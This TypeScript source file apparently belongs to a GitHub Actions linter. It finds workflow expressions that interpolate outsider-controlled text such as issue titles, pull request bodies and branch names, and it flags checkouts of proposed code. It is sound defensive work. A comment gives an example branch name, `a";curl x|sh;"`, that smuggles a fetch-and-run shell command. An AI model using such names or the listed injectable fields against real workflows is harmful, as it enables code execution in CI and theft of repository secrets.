/** GitHub Actions expressions (`${{ ... }}`) and which of them carry text that an outsider chooses. */

/**
 * Contexts whose value an outsider can choose (docs.github.com, "Security hardening for GitHub Actions: good practices for mitigating script injection").
 * Branch names count: a branch may be called `a";curl x|sh;"`.
 */
const untrusted = [
  // Whole objects, which only toJSON can turn into text.
  /^github(?:\.event(?:\.(?:issue|pull_request|discussion|comment|review|head_commit))?)?$/,
  /^github\.head_ref$/,
  /^github\.event\.(?:issue|pull_request|discussion)\.(?:title|body)$/,
  /^github\.event\.(?:comment|review|review_comment)\.body$/,
  /^github\.event\.pull_request\.head\.(?:ref|label|repo\.(?:default_branch|description|homepage))$/,
  /^github\.event\.pages\..*\.page_name$/,
  /^github\.event\.(?:commits\..*|head_commit)\.(?:message|author\.(?:email|name))$/,
  /^github\.event\.workflow_run\.(?:head_branch|display_title|head_commit\.(?:message|author\.(?:email|name))|pull_requests\..*\.head\.ref)$/,
];

/** Code of the proposed change, as a checkout would name it. */
const proposed =
  /github\.(?:head_ref|event\.pull_request\.(?:head\.|merge_commit_sha)|event\.workflow_run\.head_|event\.(?:issue|pull_request)?\.?number)|refs\/pull\//;

/** How an expression starts; it ends with `}}`. */
const OPEN = `\${{`;

export interface Expression {
  /** As written, with its braces. */
  readonly written: string;
  readonly body: string;
}

export function expressions(text: string): readonly Expression[] {
  const found: Expression[] = [];
  for (let from = text.indexOf(OPEN); from !== -1; ) {
    const close = text.indexOf('}}', from);
    if (close === -1) break;
    found.push({ written: text.slice(from, close + 2), body: text.slice(from + OPEN.length, close).trim() });
    from = text.indexOf(OPEN, close);
  }
  return found;
}

/** References of an expression whose text ends up in its value; what only feeds a comparison or a yes-or-no function does not. */
export function interpolated(body: string): readonly string[] {
  const valueOnly = body
    .replace(/\[\s*'([\w-]+)'\s*\]/g, '.$1')
    .replace(/'(?:[^']|'')*'/g, "''")
    .replace(/\b(?:contains|startsWith|endsWith|hashFiles|fromJSON)\s*\([^()]*\)/gi, '')
    .replace(/(?<left>[\w.*[\]-]+)\s*(?:==|!=|<=|>=|<|>)\s*(?:''|[\w.*[\]-]+)/g, '')
    .replace(/''\s*(?:==|!=)\s*[\w.*[\]-]+/g, '');
  return [...valueOnly.matchAll(/\b(?:github|env|inputs|steps|needs|matrix)(?:\.[\w*-]+|\[[^\]]*\])+/g)].map(([reference]) =>
    normal(reference),
  );
}

const normal = (reference: string): string => reference.replace(/\[\s*'?([^\]']*)'?\s*\]/g, '.$1').toLowerCase();

const isUntrusted = (reference: string): boolean => untrusted.some((pattern) => pattern.test(reference));

/** The expressions of a text that put an outsider's text into it. `env` gives the value behind `env.NAME`, where it is known. */
export function injections(text: string, env: ReadonlyMap<string, string>): readonly Expression[] {
  return expressions(text).filter(({ body }) =>
    interpolated(body).some((reference) => isUntrusted(reference) || isUntrustedEnv(reference, env)),
  );
}

function isUntrustedEnv(reference: string, env: ReadonlyMap<string, string>): boolean {
  const name = /^env\.([\w-]+)$/.exec(reference)?.[1];
  const value = name === undefined ? undefined : env.get(name.toLowerCase());
  return value !== undefined && expressions(value).some(({ body }) => interpolated(body).some(isUntrusted));
}

/** True where a checkout reference names the code of a pull request or of the run that triggered this one. */
export const namesProposedCode = (text: string): boolean => proposed.test(text);
